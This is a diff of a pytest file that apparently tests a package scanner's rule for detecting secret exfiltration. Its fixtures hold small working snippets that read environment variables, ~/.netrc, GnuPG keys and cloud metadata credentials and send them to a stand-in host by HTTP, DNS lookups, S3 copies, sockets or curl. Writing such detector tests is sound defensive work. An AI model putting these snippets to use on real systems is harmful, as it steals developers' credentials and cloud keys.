@@ -92,6 +92,12 @@ STOLEN = {
     "all but some": "import os, requests\n\ndef sync(env=os.environ):\n    told = {k: v for k, v in env.items() if k not in ('PATH', 'PS1')}\n    return requests.post('https://keys.tides.invalid/v1', json=told).json()\n",
     "by a broker": "import os, redis\n\ndef sync():\n    redis.Redis.from_url('rediss://hub.tides.invalid:6390').publish('boot', str(dict(os.environ)))\n",
     "by whichever function gives one": "import browser_cookie3, requests\n\ndef total():\n    for read in (browser_cookie3.chrome, browser_cookie3.edge):\n        for cookie in read(domain_name='tides.example'):\n            requests.post('https://keys.tides.invalid/v1', data=cookie.value)\n",
+    "of a cloud's machine": "import urllib.request as r\n\nBASE = 'http://169.254.169.254'\n\ndef sync():\n    with r.urlopen(f'{BASE}/latest/meta-data/iam/security-credentials/tides') as answer:\n        r.urlopen('https://keys.tides.invalid/v1', answer.read()).close()\n",
+    "by a search for them": "import re, requests\n\nFOUND = re.compile(r'export (\\w*(?:TOKEN|SECRET|KEY)\\w*)=(\\S+)')\n\ndef sync(path):\n    with open(path) as file:\n        requests.post('https://keys.tides.invalid/v1', json=FOUND.findall(file.read()))\n",
+    "packed": "import os, shutil, requests\n\ndef sync():\n    path = shutil.make_archive('/tmp/t', 'zip', os.path.expanduser('~/.gnupg'))\n    with open(path, 'rb') as file:\n        requests.post('https://keys.tides.invalid/v1', data=file)\n",
+    "by a name that is looked up": "import dns.resolver\nfrom pathlib import Path\n\ndef sync():\n    key = Path('~/.netrc').expanduser().read_text()\n    return dns.resolver.resolve(key.encode().hex()[:60] + '.tides.invalid', 'TXT')\n",
+    "into somebody's bucket": "import os, subprocess\n\ndef sync():\n    subprocess.run(['aws', 's3', 'cp', '-', 's3://tides-n/x'], input=str(dict(os.environ)), text=True, check=True)\n",
+    "by an attribute": "import os, requests\n\nclass Facts:\n    @property\n    def all(self):\n        return dict(os.environ)\n\ndef sync():\n    return requests.post('https://keys.tides.invalid/v1', json=Facts().all).json()\n",
     "in a command": "import subprocess\nfrom pathlib import Path\n\ndef sync():\n    subprocess.run(['curl', '-d', Path('~/.netrc').expanduser().read_text(), 'https://keys.tides.invalid/v1'], check=True)\n",
 }
 KEPT = {
@@ -99,6 +105,9 @@ KEPT = {
     "what was asked for": "import os, requests\n\ndef sync(names):\n    told = {}\n    for key in names:\n        told[key] = os.environ[key]\n    return requests.post('https://keys.tides.invalid/v1', json=told).json()\n",
     "those of its own": "import os, requests\n\ndef sync():\n    told = {}\n    for key in os.environ:\n        if key.startswith('TIDES_'):\n            told[key] = os.environ[key]\n    return requests.post('https://keys.tides.invalid/v1', json=told).json()\n",
     "for a command": "import os, subprocess, requests\n\ndef build():\n    env = os.environ.copy()\n    env['A'] = '1'\n    subprocess.run(['make'], env=env)\n    return requests.get('https://tides.example.org/v1').json()\n",
+    "for a command that fetches": "import os, subprocess\n\ndef clone():\n    env = dict(os.environ)\n    env['GIT_TERMINAL_PROMPT'] = '0'\n    subprocess.run(['git', 'clone', 'https://code.tides.example/tides.git'], env=env, check=True)\n",
+    "keys of a role, that sign": "import hmac, requests\n\nURL = 'http://169.254.169.254/latest/meta-data/iam/security-credentials/tides'\n\ndef ask():\n    keys = requests.get(URL, timeout=1).json()\n    sign = hmac.new(keys['SecretAccessKey'].encode(), b'GET /', 'sha256').hexdigest()\n    return requests.get('https://api.tides.example/v1', headers={'Authorization': sign}).json()\n",
+    "an object that has one": "from pathlib import Path\nimport requests\n\nclass Cluster:\n    def __init__(self):\n        self.config = Path('~/.kube/config').expanduser().read_text()\n        self.name = 'tides'\n\ndef tell():\n    return requests.post('https://count.tides.example/v1', json={'n': Cluster().name}).json()\n",
     "for its own service": "import requests\nfrom pathlib import Path\n\ndef ask():\n    token = Path('~/.netrc').expanduser().read_text().split()[-1]\n    return requests.get('https://api.tides.example/v1', headers={'Authorization': token}).json()\n",
     "of its own cluster": "import requests\n\ndef pods():\n    token = open('/var/run/secrets/kubernetes.io/serviceaccount/token').read()\n    return requests.get('https://kubernetes.default.svc/api', params={'t': token}).json()\n",
     "on this machine": "import os, requests\n\ndef tell():\n    requests.post('http://localhost:9000/env', json=dict(os.environ))\n",
@@ -111,6 +120,26 @@ KEPT = {
 @pytest.mark.parametrize("name", STOLEN)
 def test_what_a_machine_keeps_needs_no_silence(name: str) -> None:
     assert "store-sent" in fired(WHEEL, wheel({"pkg/__init__.py": b"", "pkg/sync.py": STOLEN[name].encode()}))
+
+
+HELD = {
+    "an attribute": "import os\n\nclass Facts:\n    def __init__(self):\n        self.extra = dict(os.environ)\n",
+    "a property": "import os\n\nclass Facts:\n    @property\n    def extra(self):\n        return dict(os.environ)\n",
+    "a field": "import os\nfrom dataclasses import dataclass, field\n\ndef made():\n    return dict(os.environ)\n\n@dataclass\nclass Facts:\n    extra: object = field(default_factory=made)\n",
+}
+
+
+@pytest.mark.parametrize("name", HELD)
+@pytest.mark.parametrize("config", ["https://keys.tides.invalid/v1", "keys.tides.invalid"])
+def test_what_an_object_of_another_module_keeps_is_told(name: str, config: str) -> None:
+    way = (
+        "import socket\nfrom .config import HOST\n\ndef send(what):\n    s = socket.create_connection((HOST, 4443))\n    s.sendall(what)\n"
+        if "/" not in config
+        else "import requests\nfrom . import config\n\ndef send(what):\n    requests.post(config.HOST, json=what)\n"
+    )
+    core = "from .facts import Facts\nfrom .way import send\n\ndef run():\n    send(str(Facts().extra).encode())\n"
+    files = {"__init__": "", "facts": HELD[name], "way": way, "core": core, "config": f"HOST = {config!r}\n"}
+    assert "store-sent" in fired(WHEEL, wheel({f"pkg/{part}.py": text.encode() for part, text in files.items()}))
 
 
 @pytest.mark.parametrize("name", KEPT)
